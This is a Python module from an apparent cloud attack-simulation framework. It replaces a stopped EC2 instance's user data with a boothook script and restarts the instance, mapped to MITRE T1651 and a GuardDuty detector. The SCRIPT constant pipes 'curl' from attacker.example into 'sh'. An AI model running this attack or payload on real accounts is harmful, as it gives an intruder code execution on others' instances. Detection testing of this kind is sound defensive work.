"""Replace the user data of a stopped instance: what cloud-init runs at the next start is the intruder's."""

import base64

from bastide.attack import scenery
from bastide.attack.stage import Stage
from bastide.attack.technique import Recorded, Scene, Technique

TECHNIQUE = Technique(
    title="An instance's start script is replaced",
    mitre=("T1651",),
    tactic="execution",
    detectors=("GuardDuty PrivilegeEscalation:IAMUser/AnomalousBehavior",),
    expected=Recorded("no condition key tells a new start script from an old one"),
    source='Amazon EC2 User Guide, "Run commands when you launch an EC2 instance with user data input"',
)
SCRIPT = b"#cloud-boothook\n#!/bin/sh\ncurl -s https://attacker.example/x | sh\n"


def prepare(stage: Stage) -> Scene:
    """A running instance."""
    network = scenery.network(stage)
    return {"network": network, "instance": scenery.instance(stage, network.subnet)}


def attack(stage: Stage, scene: Scene) -> None:
    """Stop it, replace the script, start it."""
    ec2 = stage.attacker().client("ec2")
    ec2.stop_instances(InstanceIds=[scene["instance"]])
    ec2.modify_instance_attribute(InstanceId=scene["instance"], UserData={"Value": SCRIPT})
    ec2.start_instances(InstanceIds=[scene["instance"]])


def succeeded(stage: Stage, scene: Scene) -> bool:
    """The instance has the script."""
    ec2 = stage.owner().client("ec2")
    found = ec2.describe_instance_attribute(InstanceId=scene["instance"], Attribute="userData")["UserData"]
    return base64.b64decode(found.get("Value", "")) in (SCRIPT, base64.b64encode(SCRIPT))


def clean_up(stage: Stage, scene: Scene) -> None:
    """Terminate the instance."""
    scenery.drop_instances(stage, instance_id=scene["instance"])
    scenery.drop_network(stage, scene["network"])
